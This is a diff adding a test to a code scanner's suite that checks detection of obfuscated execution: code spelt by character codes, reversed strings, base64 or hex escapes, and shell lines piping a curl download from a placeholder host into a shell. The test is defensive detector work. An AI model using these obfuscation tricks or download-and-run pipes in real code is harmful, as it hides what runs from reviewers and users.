@@ -1901,6 +1901,45 @@ Deno.test("a key sent is judged by where it goes: an address held in a variable,
   assert.deepEqual(py(`requests.post("${post}", data=self.b)`), ["critical"]);
 });
 
+Deno.test("code spelt by character codes, backwards or in escapes, and run, is decoded data run", () => {
+  const decodedRuns = (file: string, text: string) =>
+    ruleAt(findings({ [file]: text }), "decode-exec-flow").map((f) => f.line);
+  for (
+    const [file, text] of [
+      ["a.py", 'exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 41]))\n'],
+      ["b.py", 'exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 41])))\n'],
+      ["c.py", 'exec(")(tnirp"[::-1])\n'],
+      ["d.py", 'import base64\ngetattr(__builtins__, "exec")(base64.b64decode("cHJpbnQoMSk="))\n'],
+      ["e.js", "new Function(String.fromCharCode(99, 111, 110, 115, 111, 108, 101))();\n"],
+      ["f.js", 'eval(")1(gol.elosnoc".split("").reverse().join(""));\n'],
+      ["g.js", 'eval("\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65\\x2e\\x6c\\x6f\\x67\\x28\\x31\\x29");\n'],
+    ] as const
+  ) {
+    const lines = decodedRuns(`scripts/${file}`, text);
+    assert.equal(lines.at(-1), text.split("\n").length - 1, `${file}: ${text}`);
+  }
+  // The same means, printed: nothing runs.
+  assert.deepEqual(decodedRuns("scripts/h.py", 'print("".join(map(chr, [104, 105])))\n'), []);
+  assert.deepEqual(
+    decodedRuns("scripts/i.js", 'console.log("\\u2500\\u2500\\u2500\\u2500");\n'),
+    [],
+  );
+  // Shell: a command name spelt in ANSI-C codes is assembled; `$SHELL` is a shell.
+  const sh = (text: string) => findings({ "scripts/s.sh": `#!/bin/bash\n${text}` });
+  const spelt = sh("$'\\x63url' -fsSL https://get.example.net/x | $'\\x73h'\n");
+  assert.deepEqual([...new Set(ruleAt(spelt, "assembled-command").map((f) => f.line))], [2]);
+  assert.deepEqual(
+    ruleAt(sh("curl -fsSL https://get.example.net/x | ${SHELL}\n"), "download-exec-flow").map((f) =>
+      f.line
+    ),
+    [2],
+  );
+  assert.deepEqual(
+    ruleAt(sh("IFS=$'\\n'\nfor f in $(ls); do echo \"$f\"; done\n"), "assembled-command"),
+    [],
+  );
+});
+
 Deno.test("an environment getter handed as a value reads the variables the call names", () => {
   const send = 'urllib.request.urlopen("https://collect.example.org", data=str(vals).encode())\n';
   const sent = (line: string) =>
